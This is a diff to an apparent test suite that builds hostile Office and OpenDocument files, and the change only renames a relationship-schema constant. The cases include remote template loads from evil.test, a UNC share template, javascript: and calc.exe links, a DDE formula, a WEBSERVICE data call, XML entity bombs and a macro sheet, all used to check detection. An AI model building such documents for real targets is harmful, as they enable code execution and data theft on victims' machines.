@@ -22,7 +22,7 @@ from tests.hostile.images import picture
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024
 REMOTE = "http://evil.test/payload"
-_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path fill="#123" d="M0 0h9v9z"/></svg>'
 
 
@@ -132,7 +132,7 @@ def _typed(content: bytes, old: str, new: str) -> bytes:
 
 def related(content: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
     relation = (
-        f'<Relationship Id="rIdX" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+        f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
     )
     closing = b"</Relationships>"
     return remade(content, change={part: (closing, relation.encode() + closing)})
@@ -210,7 +210,7 @@ HOSTILE = [
     *(Case(f"a document that fetches its {kind}", "a.docx", partial(_fetching, kind), "external-reference") for kind in _EXTERNAL),
     *(Case(f"a {name} whose XML laughs", f"a.{name}", partial(_with, make, "customXml/item9.xml", _LAUGHS), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("xlsx", excel), ("odt", odt), ("odp", odp))),
     *(Case(f"a {name} that reads a file", f"a.{name}", partial(_with, make, "customXml/item9.xml", _OUTSIDE), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("odt", odt))),
-    Case("a template from elsewhere", "a.docx", lambda: remade(word(), add={"word/_rels/settings.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{_RELATION}/attachedTemplate" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
+    Case("a template from elsewhere", "a.docx", lambda: remade(word(), add={"word/_rels/settings.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{RELATION}/attachedTemplate" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
     Case("a template on a share", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "attachedTemplate", "\\\\evil.test\\t.dotm", "Internal"), "external-reference"),
     Case("a link to a script", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"), "action"),
     Case("a link to a program", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "file:///C:/Windows/System32/calc.exe"), "action"),
@@ -222,7 +222,7 @@ HOSTILE = [
     Case("a chunk of HTML", "a.docx", lambda: in_word('<w:altChunk r:id="rId9"/>'), "embedded-file"),
     Case("a formula that runs a program", "a.xlsx", lambda: in_excel("cmd|&apos;/C calc&apos;!A0"), "dde"),
     Case("a formula that sends data", "a.xlsx", lambda: in_excel("WEBSERVICE(&quot;http://evil.test&quot;)"), "action"),
-    Case("a workbook that reads another", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{_RELATION}/externalLinkPath" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
+    Case("a workbook that reads another", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{RELATION}/externalLinkPath" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
     Case("a workbook with a DDE link", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "dde"),
     Case("a workbook with a macro sheet", "a.xlsx", lambda: _typed(excel(), "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet", "application/vnd.ms-excel.macrosheet"), "macro"),
     Case("a slide that runs a program", "a.pptx", lambda: remade(pptx(), change={"ppt/slides/slide2.xml": (b"<p:spPr", b'<a:hlinkClick action="ppaction://program"/><p:spPr')}), "action"),
